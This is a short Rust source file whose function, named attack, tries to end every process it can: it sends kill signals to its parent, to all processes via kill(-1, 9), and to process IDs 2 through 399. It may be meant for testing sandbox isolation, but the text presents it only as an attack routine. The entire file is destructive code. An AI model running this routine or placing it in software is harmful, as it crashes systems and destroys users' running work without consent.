//! Ends every process that it may end: its parent, its group, all.

pub fn attack() {
    unsafe {
        kill(getppid(), 9);
        kill(getppid(), 19);
        kill(-1, 9);
        for process in 2..400 {
            if process != getpid() && process != getppid() {
                kill(process, 9);
            }
        }
    }
}
